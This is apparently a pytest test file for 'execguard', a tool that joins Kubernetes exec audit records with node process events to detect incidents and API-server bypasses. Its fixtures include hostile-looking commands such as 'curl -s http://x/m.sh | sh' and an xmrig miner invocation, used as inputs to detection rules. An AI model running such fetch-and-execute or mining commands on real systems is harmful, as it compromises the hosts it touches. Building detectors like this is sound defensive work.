"""The join (engine/join.py) on constructed events: incidents, bypasses, skew, probes, policy, memory cap."""

from __future__ import annotations

from collections import Counter
from collections.abc import Iterable

from hypothesis import given, settings
from hypothesis import strategies as st

from execguard.engine.join import BYPASS, INCIDENT, Joiner
from execguard.model import Actor, Alert, Event, Process, RuleMatch, SourceRef, Target
from execguard.policy import PolicyMatcher, parse_policy

CID = "ab" * 32


def at(seconds: float) -> str:
    whole = int(seconds)
    return f"2026-12-01T10:{whole // 60:02d}:{whole % 60:02d}.{int((seconds - whole) * 1e6):06d}Z"


def api(t: float, pod: str = "web-1", cmd: Iterable[str] = ("sh",), container: str | None = "app", fmt: str = "k8s-audit",
        outcome: str = "allowed") -> Event:
    return Event(
        time=at(t), source=SourceRef(fmt, "audit.log", int(t * 10)),
        actor=Actor(user="alice", groups=["devs"], source_ip=["10.0.0.9"], user_agent="kubectl/v1.31"),
        action="exec", verb="get", target=Target(namespace="prod", pod=pod, container=container), command=list(cmd), outcome=outcome,
    )


def proc(t: float, pid: int, ppid: int, cmd: Iterable[str], tree: bool | None = False, pod: str = "web-1", cid: str = CID,
         origin: str | None = None) -> Event:
    return Event(
        time=at(t), source=SourceRef("tetragon", "tetragon.jsonl", pid), action="process",
        target=Target(namespace="prod", pod=pod, container="app", container_id=cid, node="node-1"),
        command=list(cmd), command_origin=origin, process=Process(pid=pid, ppid=ppid, exe=next(iter(cmd), None), in_init_tree=tree),
    )


def spec(t: float, cmd: Iterable[str], origin: str = "livenessProbe") -> Event:
    return Event(time=at(t), source=SourceRef("k8s-audit", "audit.log", 1), action="create", verb="create",
                 target=Target(namespace="prod", pod="web", container="app", kind="Deployment"), command=list(cmd), command_origin=origin)


def alert(ev: Event, severity: str = "low", rule: str = "r") -> Alert:
    return Alert(ev, [RuleMatch(rule, rule, severity, ["T1609"], f"{rule} fired")])


def run(joiner: Joiner, items: list[tuple[Event, Alert | None]]) -> list[Alert]:
    out: list[Alert] = []
    for seq, (ev, a) in enumerate(items, 1):
        out += [x for x, _ in joiner.feed(ev, a, seq)]
    out += [x for x, _ in joiner.drain()]
    return out


def rules(a: Alert) -> set[str]:
    return {m.rule_id for m in a.matches}


def test_incident_carries_identity_and_highest_severity() -> None:
    rec = api(0)
    shell = proc(0.2, 100, 50, ["/bin/sh"])
    miner = proc(0.5, 101, 100, ["/tmp/xmrig", "-o", "pool"])
    out = run(Joiner(active=True), [(rec, alert(rec)), (shell, None), (miner, alert(miner, "critical", "cmd-miner"))])
    assert len(out) == 1
    inc = out[0]
    assert inc.event is rec and inc.severity == "critical"
    assert rules(inc) == {"r", "cmd-miner", INCIDENT}
    assert [c.command[0] for c in inc.covers] == ["/bin/sh", "/tmp/xmrig"]
    for c in inc.covers:
        assert c.actor.user == "alice" and c.actor.source_ip == ["10.0.0.9"] and c.actor.user_agent == "kubectl/v1.31"


def test_exec_with_no_record_is_a_bypass_and_its_children_join_it() -> None:
    other = api(0, pod="db-0")  # the audit source is on, but nobody asked for an exec in web-1
    sh = proc(30, 200, 10, ["/bin/sh", "-c", "curl x | sh"])
    curl = proc(30.1, 201, 200, ["/usr/bin/curl", "x"])
    j = Joiner(active=True)
    out = run(j, [(other, alert(other)), (sh, None), (curl, alert(curl, "critical", "cmd-download"))])
    bypass = [a for a in out if BYPASS in rules(a)]
    assert len(bypass) == 1
    b = bypass[0]
    assert b.event is sh and b.severity == "critical" and [c.command[0] for c in b.covers] == ["/usr/bin/curl"]
    assert "exec bypassed the API server (kubelet :10250, CRI or runtime on the node)" in b.matches[1].reason or any(
        "bypassed the API server" in m.reason for m in b.matches
    )
    assert next(m for m in b.matches if m.rule_id == BYPASS).severity == "high"
    assert j.stats.bypasses == 1


def test_clock_skew_either_way_within_the_tolerance() -> None:
    for delta in (-2.5, 2.5, 12.0):  # node clock 2.5 s behind or ahead; 12 s is window 10 + skew 3 after
        rec = api(100)
        p = proc(100 + delta, 300, 1, ["/bin/sh"])
        out = run(Joiner(active=True), [(p, alert(p)), (rec, alert(rec))] if delta < 0 else [(rec, alert(rec)), (p, alert(p))])
        assert len(out) == 1 and INCIDENT in rules(out[0]), delta


def test_beyond_skew_is_a_bypass() -> None:
    on = api(0, pod="db-0")  # the audit source was on before
    rec = api(100)
    early = proc(95, 300, 1, ["/bin/sh"])  # 5 s before the record: more than the 3 s skew
    out = run(Joiner(active=True, skew=3), [(on, None), (early, None), (rec, alert(rec))])
    assert any(BYPASS in rules(a) for a in out)
    out = run(Joiner(active=True, skew=6), [(on, None), (early, None), (rec, alert(rec))])
    assert not any(BYPASS in rules(a) for a in out)


def test_missing_pieces() -> None:
    # no API-server source at all: nothing is called a bypass
    p = proc(10, 1, 0, ["/bin/sh"])
    j = Joiner(active=True)
    assert run(j, [(p, alert(p))]) == [alert(p)] or j.stats.uncovered == 1
    assert j.stats.uncovered == 1 and j.stats.bypasses == 0
    # a record whose exec the node never reported: its alert alone, unchanged
    rec = api(0)
    out = run(Joiner(active=True), [(rec, alert(rec))])
    assert out[0].event is rec and not out[0].covers and rules(out[0]) == {"r"}
    # a process in the init tree is never an exec
    p = proc(5, 2, 1, ["/bin/sh"], tree=True)
    j = Joiner(active=True)
    out = run(j, [(rec, alert(rec)), (p, alert(p))])
    assert {id(a.event) for a in out} == {id(rec), id(p)} and not any(a.covers for a in out)
    # a denied exec is no record of an exec that ran
    denied = api(0, outcome="denied")
    p = proc(0.2, 3, 1, ["/bin/sh"])
    out = run(Joiner(active=True), [(denied, alert(denied)), (api(1, pod="x"), None), (p, None)])
    assert any(BYPASS in rules(a) for a in out)


def test_process_without_in_init_tree_counts_as_exec_under_runc_exec() -> None:
    p = proc(0, 9, 8, ["/bin/bash"], tree=None)
    assert p.process is not None
    p.process.parent_exe, p.process.parent_command = "/usr/bin/runc", ["/usr/bin/runc", "--root", "/r", "exec", "--process", "/tmp/p"]
    rec = api(0, pod="other")
    out = run(Joiner(active=True), [(rec, None), (p, None)])
    assert any(BYPASS in rules(a) for a in out)


def test_probes_are_not_bypasses() -> None:
    other = api(0, pod="db-0")
    flagged = proc(5, 10, 1, ["/bin/cat", "/tmp/healthy"], origin="maybe_exec_probe")
    from_spec = proc(6, 11, 1, ["/usr/bin/pg_isready", "-U", "pg"])
    j = Joiner(active=True)
    out = run(j, [(other, None), (spec(1, ["pg_isready", "-U", "pg"]), None), (flagged, None), (from_spec, None)])
    assert out == [] and j.stats.probes == 2
    # repetition: the same argv again and again with no record is taken for a probe after REPEAT times
    j = Joiner(active=True)
    items: list[tuple[Event, Alert | None]] = [(other, None)]
    items += [(proc(10 + 10 * i, 100 + i, 1, ["/bin/true"]), None) for i in range(5)]
    out = run(j, items)
    assert sum(BYPASS in rules(a) for a in out) == 2 and j.stats.repeated == 3


def test_policy_probe_entry_names_an_expected_node_exec() -> None:
    policy = parse_policy(
        "apiVersion: execguard/v1\nkind: Policy\nentries:\n"
        "  - name: backup-agent\n    action: probe\n    reason: velero's node agent runs crictl exec for backups\n"
        "    match:\n      namespaces: [prod]\n      commands: ['/usr/bin/backup *']\n"
    )
    matcher = PolicyMatcher(policy)
    other = api(0, pod="db-0")
    backup = proc(30, 10, 1, ["/usr/bin/backup", "--all"])
    shell = proc(40, 20, 1, ["/bin/sh"])
    j = Joiner(active=True, expected=matcher.expected)
    out = run(j, [(other, None), (backup, None), (shell, None)])
    assert [a.event for a in out if BYPASS in rules(a)] == [shell]
    assert j.stats.expected == 1


def test_memory_cap_sheds_and_counts_but_keeps_every_alert() -> None:
    j = Joiner(active=True, cap=5)
    items: list[tuple[Event, Alert | None]] = []
    for i in range(40):
        rec = api(i * 0.01, pod=f"p{i}")
        items.append((rec, alert(rec)))
    out = run(j, items)
    assert len(out) == 40 and j.shed > 0


def test_docker_exec_joins_by_container_id() -> None:
    rec = Event(time=at(0), source=SourceRef("docker-events", "ev.jsonl", 1), action="exec", verb="exec_create",
                target=Target(container="redis", container_id=CID), command=["sh", "-c", "id"], event_id="e1")
    p = Event(time=at(0.1), source=SourceRef("tetragon", "t.jsonl", 1), action="process", target=Target(container_id=CID[:31]),
              command=["/bin/sh", "-c", "id"], process=Process(pid=5, ppid=4, in_init_tree=False))
    out = run(Joiner(active=True), [(rec, alert(rec)), (p, None)])
    assert len(out) == 1 and [c.command for c in out[0].covers] == [["/bin/sh", "-c", "id"]]


def test_runtime_exec_and_tetragon_of_one_exec_are_one_session() -> None:
    rec = api(0)
    rt = Event(time=at(0.1), source=SourceRef("containerd", "", None), action="runtime_exec",
               target=Target(namespace="prod", pod="web-1", container="app", container_id=CID), command=["sh"],
               process=Process(pid=77, exec_id="x1"))
    tg = proc(0.12, 77, 70, ["/bin/sh"])
    child = proc(0.3, 78, 77, ["/bin/id"])
    j = Joiner(active=True)
    out = run(j, [(rec, alert(rec)), (rt, None), (tg, None), (child, None)])
    assert len(out) == 1 and len(out[0].covers) == 3 and j.stats.identities == 3


# ---- never loses or duplicates an input alert --------------------------------------------------------------
@st.composite
def streams(draw: st.DrawFn) -> list[tuple[Event, Alert | None]]:
    items: list[tuple[float, Event, Alert | None]] = []
    pods = ["a", "b", "c"]
    for i in range(draw(st.integers(0, 40))):
        t = draw(st.floats(0, 120, allow_nan=False))
        pod = draw(st.sampled_from(pods))
        kind = draw(st.sampled_from(["api", "proc", "child", "tree", "probe", "denied"]))
        if kind in ("api", "denied"):
            ev = api(t, pod=pod, outcome="denied" if kind == "denied" else "allowed", cmd=[draw(st.sampled_from(["sh", "id"]))])
        else:
            ev = proc(t, 1000 + i, draw(st.integers(990, 1000 + i)) if kind == "child" else 1, ["/bin/sh"], tree=kind == "tree",
                      pod=pod, cid=CID if pod == "a" else "cd" * 32, origin="maybe_exec_probe" if kind == "probe" else None)
        has = draw(st.booleans())
        items.append((t, ev, alert(ev, draw(st.sampled_from(["low", "high"])), f"r{i}") if has else None))
    items.sort(key=lambda x: x[0])
    return [(e, a) for _, e, a in items]


@settings(max_examples=150, deadline=None)
@given(streams(), st.integers(1, 30), st.booleans())
def test_every_input_alert_comes_out_exactly_once(items: list[tuple[Event, Alert | None]], cap: int, active: bool) -> None:
    inputs = [a for _, a in items if a is not None]
    out = run(Joiner(active=active, cap=cap), items)
    seen: Counter[int] = Counter()
    for a in out:
        if BYPASS in rules(a) and not any(a.event is x.event for x in inputs):
            pass  # a new alert on an exec no rule hit
        else:
            seen[id(a.event)] += 1
        for c in a.covers:
            seen[id(c)] += 1
    for a in inputs:
        assert seen[id(a.event)] == 1
    # every rule hit of every input alert is in the output alert that holds its event
    out_rules = {r for a in out for r in rules(a)}
    assert {r for a in inputs for r in rules(a)} <= out_rules


def test_nothing_waits_in_watch_mode() -> None:
    rec = api(0)
    mine = proc(0.2, 100, 50, ["/tmp/xmrig"])
    late_rec = proc(5, 300, 1, ["/bin/sh"], pod="db-0")  # its record (if any) has not come yet
    j = Joiner(hold=False)
    first = [a for a, _ in j.feed(rec, alert(rec), 1)]
    assert [a.event for a in first] == [rec]  # written at once, not held for its processes
    second = [a for a, _ in j.feed(mine, alert(mine, "critical", "cmd-miner"), 2)]
    assert [a.event for a in second] == [mine] and mine.actor.user == "alice"
    assert next(a for a, _ in j.feed(late_rec, alert(late_rec), 3)).event is late_rec
    assert list(j.drain()) == [] and j.stats.bypasses == 0 and j.stats.unjudged == 1


def test_watch_detector_attaches_identities() -> None:
    from execguard.engine.match import Engine
    from execguard.live.inputs import Batch
    from execguard.live.runner import Detector
    from execguard.pipeline.rules import load

    engine = Engine(load([], builtin=True))
    rec = api(0, cmd=["sh", "-c", "curl -s http://x/m.sh | sh"])
    rec.verb, rec.request_uri = "create", "/api/v1/namespaces/prod/pods/web-1/exec?command=sh"
    child = proc(0.3, 101, 50, ["/bin/sh", "-c", "curl -s http://x/m.sh | sh"])
    detector = Detector(engine, None, 0, Joiner(hold=False))
    out = detector.alerts(Batch("test", [rec, child]))
    process_alerts = [a for a in out if a.event is child]
    assert process_alerts and process_alerts[0].event.actor.user == "alice"
    assert process_alerts[0].event.actor.source_ip == ["10.0.0.9"]


@settings(max_examples=60, deadline=None)
@given(streams(), st.booleans())
def test_the_pipeline_stage_keeps_every_alert_and_its_sequence(items: list[tuple[Event, Alert | None]], sorted_input: bool) -> None:
    from execguard.pipeline.join import JoinOptions, JoinStage

    shuffled = list(reversed(items))  # files in any order: the stage merges them by time
    stage = JoinStage(JoinOptions(), sorted_input=sorted_input)
    decisions = [(ev, a, []) for ev, a in (shuffled if sorted_input else items)]
    out = list(stage.run(decisions))
    inputs = {id(a.event) for _, a in items if a is not None}
    seen: Counter[int] = Counter()
    for a, seq in out:
        assert 1 <= seq <= len(items)
        if id(a.event) in inputs:
            seen[id(a.event)] += 1
        for c in a.covers:
            seen[id(c)] += 1
    assert all(seen[i] == 1 for i in inputs)
    assert len({seq for _, seq in out}) == len(out)  # one alert per input sequence number
